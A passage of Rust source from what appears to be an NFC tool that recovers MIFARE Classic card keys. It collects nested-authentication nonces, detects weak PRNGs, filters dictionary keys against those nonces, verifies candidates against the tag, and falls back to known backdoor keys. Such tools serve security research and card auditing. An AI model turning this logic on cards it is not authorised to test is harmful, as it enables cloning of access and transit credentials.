                self.bump_nested_trouble();
                return Ok(());
            }
            Err(err) => return Err(err),
        };
        self.protocol_errors = 0;

        self.nested.records.push(NonceRecord {
            sector: target.sector,
            key_type: target.key_type,
            nt_ref: anchor_ctx.nt,
            nt_enc: nested_ctx.nt_enc,
            parity: nested_ctx.parity,
            dist: self.nested.dist.unwrap_or(0),
        });
        self.nested.target_key =
            self.nested.collect_target_key(target, self.nested.nonces_for_target);

        match self.nested.prng {
            PrngType::Weak => {
                self.nested.nonces_for_target += 1;
                self.nested.since_drift_check += 1;
                if self.nested.nonces_for_target >= self.config.nested.nonces_per_target {
                    self.nested.advance_target();
                }
            }
            _ => {
                self.nested.note_msb(nested_ctx.nt_enc);
                self.nested.nonces_for_target = self.nested.nonces_for_target.saturating_add(1);
                let threshold = self.config.nested.msb_threshold.min(256);
                // Static-encrypted nonces never diversify; move on once it
                // is clear this target is not going to fill the byte space.
                let stalled = u16::from(self.nested.nonces_for_target) >= threshold * 4
                    && self.nested.msb_count < threshold;
                if self.nested.msb_count >= threshold || stalled {
                    self.nested.advance_target();
                }
            }
        }
        self.emit_update(on_event);
        Ok(())
    }

    fn step_nested_dict(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        self.enter_phase(NestedPhase::DictAttack, on_event);
        if self.skip {
            self.skip = false;
            self.nested.advance_target();
        }
        let target = loop {
            match self.nested.current_target() {
                None => {
                    self.nested.candidate_cursor = 0;
                    self.state = State::NestedVerify;
                    return Ok(());
                }
                Some(t)
                    if self.data.is_key_known(t.sector, t.key_type)
                        || self.nested.records_for(t).next().is_none() =>
                {
                    self.nested.advance_target();
                }
                Some(t) => break t,
            }
        };

        let mut request = KeyRequest {
            sector: target.sector,
            key_type: target.key_type,
            nested: true,
            key: None,
        };
        on_event(PollerEvent::RequestKey(&mut request));
        match request.key {
            None => {
                self.nested.advance_target();
            }
            Some(key) => {
                let uid = self.data.uid_u32();
                if self
                    .nested
                    .key_matches_target(key, uid, target, &self.config.nested)
                {
                    debug!(sector = target.sector, key_type = %target.key_type, %key,
                        "candidate survives nonce filter");
                    self.nested.candidates.push(Candidate {
                        sector: target.sector,
                        key_type: target.key_type,
                        key,
                    });
                }
            }
        }
        self.nested.target_key = self.nested.dict_target_key(target);
        self.emit_update(on_event);
        Ok(())
    }

    fn step_nested_verify(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        self.enter_phase(NestedPhase::DictAttackVerify, on_event);
        if self.skip {
            // Drop the remaining candidates of the current target.
            self.skip = false;
            if let Some(current) = self.nested.candidates.get(self.nested.candidate_cursor).copied()
            {
                while let Some(c) = self.nested.candidates.get(self.nested.candidate_cursor) {
                    if c.sector != current.sector || c.key_type != current.key_type {
                        break;
                    }
                    self.nested.candidate_cursor += 1;
                }
            }
        }
        let candidate = match self.nested.candidates.get(self.nested.candidate_cursor).copied() {
            Some(candidate) => candidate,
            None => {
                self.nested.phase = NestedPhase::Finished;
                self.emit_update(on_event);
                self.state = State::Evaluate;
                return Ok(());
            }
        };
        if self.data.is_key_known(candidate.sector, candidate.key_type) {
            self.nested.candidate_cursor += 1;
            return Ok(());
        }
        self.nested.target_key = self
            .nested
            .dict_target_key(Target { sector: candidate.sector, key_type: candidate.key_type });

        if !self.session.active {
            self.require_presence()?;
        }
        match self.authenticate(
            sector_trailer_block(candidate.sector),
            candidate.key,
            candidate.key_type,
            false,
        ) {
            Ok(_) => {
                self.found_key(candidate.sector, candidate.key_type, candidate.key, on_event);
                let _ = self.halt();
                self.nested.candidate_cursor += 1;
            }
            Err(err) if err.is_absence() => {
                // Only count the candidate as tested if the tag is still
                // there to have rejected it.
                self.require_presence()?;
                self.nested.candidate_cursor += 1;
                self.emit_update(on_event);
            }
            Err(Error::Protocol(_)) => {
                self.protocol_errors += 1;
            }
            Err(err) => return Err(err),
        }
        Ok(())
    }

    // ---- session wrap-up ------------------------------------------------

    fn step_evaluate(&mut self, _on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        // Read anything we found keys for but never read.
        let pending_read = (0..self.data.sector_count()).find(|s| {
            self.data.keys_of(*s).any().is_some() && !self.read_attempted[*s as usize]
        });
        if let Some(sector) = pending_read {
            self.read_sector = sector;
            self.read_return = State::Evaluate;
            self.read_key_override = None;
            self.state = State::ReadSector;
            return Ok(());
        }

        // Fall through to the nested engine if the mode calls for it and
        // there is both something left to crack and a session to crack from.
        if self.mode == PollerMode::DictAttackEnhanced
            && self.nested.phase == NestedPhase::None
            && !self.collect_targets().is_empty()
        {
            if let Some(anchor) = self.pick_anchor() {
                self.nested.anchor = Some(anchor);
                self.state = State::NestedAnalyzePrng;
                return Ok(());
            }
        }

        let succeeded = match self.mode {
            PollerMode::Write => self.blocks_written > 0,
            _ => self.data.keys_found() > 0 || self.data.sectors_read() > 0,
        };
        if succeeded {
            self.state = State::Success;
        } else {
            let sector = self.data.next_sector_missing_key(0).unwrap_or(0);
            self.fail_error = Some(Error::NoKeyAvailable { sector, key_type: KeyType::A });
            self.state = State::Fail;
        }
        Ok(())
    }

    /// A present-but-uncooperative tag during nested work (e.g. a stale
    /// anchor key) must not spin forever; too much trouble ends the attack
    /// with whatever has been recovered.
    fn bump_nested_trouble(&mut self) {
        self.protocol_errors += 1;
        if self.protocol_errors > self.config.max_protocol_errors {
            warn!("nested attack not making progress, wrapping up");
            self.protocol_errors = 0;
            self.nested.phase = NestedPhase::Finished;
            self.state = State::Evaluate;
        }
    }

    fn pick_anchor(&self) -> Option<Anchor> {
        for sector in 0..self.data.sector_count() {
            if let Some((key, key_type)) = self.data.keys_of(sector).any() {
                return Some(Anchor { sector, key, key_type, backdoor: false });
            }
        }
        backdoor_key(self.nested.backdoor)
            .map(|key| Anchor { sector: 0, key, key_type: KeyType::A, backdoor: true })
    }
}

fn backdoor_key(kind: Backdoor) -> Option<Key> {
    BACKDOOR_KEYS
        .iter()
        .find(|(_, k)| *k == kind)
        .map(|(key, _)| Key::from_u64(*key))
}

/// Reads of the sector trailer never return key material; keep the snapshot
/// honest by splicing in what we actually know.
fn splice_known_keys(block: &mut Block, keys: &crate::classic::SectorKeys) {
    if let Some(key_a) = keys.key_a {
        block.0[0..6].copy_from_slice(key_a.as_bytes());
    }
    if let Some(key_b) = keys.key_b {
        block.0[10..16].copy_from_slice(key_b.as_bytes());
    }
}
